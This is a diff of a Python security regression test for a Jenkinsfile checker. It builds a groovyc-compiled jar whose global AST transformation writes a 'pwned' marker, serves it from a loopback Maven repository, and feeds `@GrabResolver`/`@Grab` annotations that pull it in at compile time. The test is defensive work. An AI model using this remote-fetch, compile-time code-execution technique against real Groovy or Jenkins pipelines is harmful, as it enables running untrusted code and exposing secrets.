@@ -2,17 +2,22 @@
 or run its author's code, nor hand the JVM Timbel's secrets (issue 13, finding 1).
 
 The attack: `@GrabResolver(root=...)` + `@Grab(...)` made the compile to CONVERSION download a
-jar from the named repository (and load it: its global AST transformations run in the JVM),
-and the file was still reported valid. Here the repository is a loopback server that must
-receive no request, and every annotation Jenkins refuses in sandboxed pipelines makes the file
-invalid, named with its line and column.
+jar from the named repository and load it: a global AST transformation in it ran in the JVM,
+and the file was still reported valid. Here the repository is a loopback Maven repository
+serving such a jar (built with groovyc; its transformation writes a marker file when
+constructed): it must receive no request, the marker must not appear, and every annotation
+Jenkins refuses in sandboxed pipelines makes the file invalid, named with its line and column.
 """
 
 from __future__ import annotations
 
+import io
 import json
 import stat
+import subprocess
 import threading
+import uuid
+import zipfile
 from http.server import BaseHTTPRequestHandler
 from pathlib import Path
 from typing import Any
@@ -29,6 +34,8 @@ from timbel_dagster.pipeline_templates.jenkinsfile_check import (
     FALLBACK,
     MAX_FILE_BYTES,
     check_jenkinsfiles,
+    child_environment,
+    find_java_home,
     jvm_launches,
 )
 
@@ -46,12 +53,14 @@ SECRETS = {
 
 
 class FakeMavenRepository(LoopbackServer):
-    """A Maven repository that records every request and has no artifact (404)."""
+    """A Maven repository that records every request and serves `artifacts` (path -> bytes);
+    anything else (checksums, sources) is a 404."""
 
     url_suffix = "/"
 
-    def __init__(self) -> None:
+    def __init__(self, artifacts: dict[str, bytes] | None = None) -> None:
         super().__init__()
+        self.artifacts = artifacts or {}
         self.requests: list[str] = []
         self._lock = threading.Lock()
 
@@ -65,22 +74,69 @@ class FakeMavenRepository(LoopbackServer):
             def do_GET(self) -> None:
                 with repository._lock:
                     repository.requests.append(f"{self.command} {self.path}")
-                self.send_response(404)
-                self.send_header("Content-Length", "0")
+                body = repository.artifacts.get(self.path)
+                self.send_response(404 if body is None else 200)
+                self.send_header("Content-Length", str(len(body or b"")))
                 self.end_headers()
+                if body is not None and self.command == "GET":
+                    self.wfile.write(body)
 
             do_HEAD = do_GET
 
         return Handler
 
 
-def cases(repository: str, marker: Path) -> dict[str, tuple[str, list[tuple[int, int, str]]]]:
+PWN = """package evil
+import org.codehaus.groovy.ast.ASTNode
+import org.codehaus.groovy.control.CompilePhase
+import org.codehaus.groovy.control.SourceUnit
+import org.codehaus.groovy.transform.ASTTransformation
+import org.codehaus.groovy.transform.GroovyASTTransformation
+
+@GroovyASTTransformation(phase = CompilePhase.CONVERSION)
+class Pwn implements ASTTransformation {
+    Pwn() { new File('MARKER').text = 'pwned' }
+    void visit(ASTNode[] nodes, SourceUnit source) { }
+}
+"""
+
+
+def evil_artifacts(groovy: str, folder: Path, marker: Path, artifact: str) -> dict[str, bytes]:
+    """evil:ARTIFACT:1 as a Maven repository serves it: a pom, and a jar whose global AST
+    transformation (META-INF/services) writes `marker` when the compiler loads it."""
+    source = folder / "Pwn.groovy"
+    source.write_text(PWN.replace("MARKER", str(marker)), encoding="utf-8")
+    classes = folder / "classes"
+    subprocess.run(
+        [str(Path(groovy).with_name("groovyc")), "-d", str(classes), str(source)],
+        env=child_environment(find_java_home(), folder),
+        cwd=folder,
+        capture_output=True,
+        timeout=120,
+        check=True,
+    )
+    jar = io.BytesIO()
+    with zipfile.ZipFile(jar, "w") as archive:
+        archive.write(classes / "evil" / "Pwn.class", "evil/Pwn.class")
+        services = "META-INF/services/org.codehaus.groovy.transform.ASTTransformation"
+        archive.writestr(services, "evil.Pwn\n")
+    pom = (
+        "<project><modelVersion>4.0.0</modelVersion><groupId>evil</groupId>"
+        f"<artifactId>{artifact}</artifactId><version>1</version></project>"
+    )
+    base = f"/evil/{artifact}/1/{artifact}-1"
+    return {f"{base}.pom": pom.encode(), f"{base}.jar": jar.getvalue()}
+
+
+def cases(
+    repository: str, marker: Path, artifact: str = "evil"
+) -> dict[str, tuple[str, list[tuple[int, int, str]]]]:
     """name -> (Jenkinsfile, the expected errors as (line, column, message))."""
     pwn = f"new File('{marker}').text = 'pwned'"
     return {
         "grab-resolver": (
             f"@GrabResolver(name='evil', root='{repository}')\n"
-            "@Grab('evil:evil:1')\nimport evil.Evil\n" + PIPELINE,
+            f"@Grab('evil:{artifact}:1')\nimport evil.Evil\n" + PIPELINE,
             [(1, 1, "@GrabResolver" + FETCHES), (2, 1, "@Grab" + FETCHES)],
         ),
         "grapes-nested-grab": (
@@ -141,10 +197,11 @@ def attacked(groovy: str, tmp_path_factory: pytest.TempPathFactory) -> dict[str,
     """Every case checked by ONE real groovy JVM while the attacker's repository listens."""
     folder = tmp_path_factory.mktemp("untrusted")
     marker = folder / "pwned"
-    repository = FakeMavenRepository()
+    artifact = f"evil-{uuid.uuid4().hex[:8]}"  # never in a grape cache
+    repository = FakeMavenRepository(evil_artifacts(groovy, folder, marker, artifact))
     url = repository.start()
     try:
-        table = cases(url, marker)
+        table = cases(url, marker, artifact)
         paths = []
         for name, (source, _) in table.items():
             path = folder / f"{name}.Jenkinsfile"
@@ -165,12 +222,13 @@ def attacked(groovy: str, tmp_path_factory: pytest.TempPathFactory) -> dict[str,
 
 @pytest.mark.timeout(60)
 def test_the_attackers_repository_receives_no_request(attacked: dict[str, Any]) -> None:
-    """Before the fix the compiler asked it for evil-1.pom and evil-1.jar."""
+    """Before the fix the compiler fetched the pom and the jar (and probed checksums)."""
     assert attacked["launches"] == 1
     assert attacked["requests"] == []
 
 
 def test_compile_time_code_does_not_run(attacked: dict[str, Any]) -> None:
+    """Before the fix the jar's transformation wrote the marker (and the file was valid)."""
     assert not attacked["marker"].exists()
 
 
